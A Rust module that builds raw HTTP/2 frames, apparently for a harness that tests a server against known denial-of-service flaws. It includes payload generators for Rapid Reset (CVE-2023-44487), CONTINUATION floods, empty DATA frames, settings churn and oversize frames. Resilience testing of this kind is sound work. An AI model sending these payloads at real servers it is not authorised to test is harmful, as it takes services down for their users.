//! The few frames that are needed, as bytes (RFC 9113).

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
pub(super) const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;

/// The beginning of a connection.
pub(super) fn hello() -> Vec<u8> {
    let preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    [&preface[..], &frame(SETTINGS, 0, 0, &[])].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    [&head, payload].concat()
}

/// Clients have the odd streams.
fn stream(number: u64) -> u32 {
    u32::try_from(2 * number + 1).unwrap()
}

/// A request's head in HPACK, without compression but for the static table.
fn head() -> Vec<u8> {
    let text = |index: &[u8], value: &str| {
        let length = u8::try_from(value.len()).unwrap();
        [index, &[length], value.as_bytes()].concat()
    };
    [
        // :method POST, :scheme http.
        vec![0x83, 0x86],
        text(&[0x01], "x"),
        text(&[0x04], super::EXPORT),
        // content-type is 31, of which 15 are in the first byte.
        text(&[0x0f, 0x10], "application/grpc"),
    ]
    .concat()
}

/// CVE-2023-44487: a request, and at once its end.
pub(super) fn rapid_reset(number: u64) -> Vec<u8> {
    let stream = stream(number);
    [
        frame(HEADERS, END_HEADERS, stream, &head()),
        frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()),
    ]
    .concat()
}

/// RUSTSEC-2024-0332: a head that goes on and on.
pub(super) fn continuation(number: u64) -> Vec<u8> {
    if number == 0 {
        return frame(HEADERS, 0, 1, &head());
    }
    // A field of its own: x: y.
    let fields = [0x00, 1, b'x', 1, b'y'].repeat(200);
    frame(CONTINUATION, 0, 1, &fields)
}

/// RUSTSEC-2026-0258: pieces of a body that hold nothing.
pub(super) fn empty_data(number: u64) -> Vec<u8> {
    if number == 0 {
        return frame(HEADERS, END_HEADERS, 1, &head());
    }
    frame(DATA, 0, 1, &[])
}

pub(super) fn ping(number: u64) -> Vec<u8> {
    frame(PING, 0, 0, &number.to_be_bytes())
}

/// The size of the header table, up and down.
pub(super) fn settings(number: u64) -> Vec<u8> {
    let size = if number.is_multiple_of(2) {
        0_u32
    } else {
        4096
    };
    frame(SETTINGS, 0, 0, &[&[0, 1], &size.to_be_bytes()[..]].concat())
}

pub(super) fn no_window(_: u64) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, 0, &[0; 4])
}

/// A head that announces more than any frame may hold, and the beginning of it.
pub(super) fn oversize(_: u64) -> Vec<u8> {
    let head = [0xff, 0xff, 0xff, DATA, 0, 0, 0, 0, 1];
    [&head[..], &[0; 1024]].concat()
}
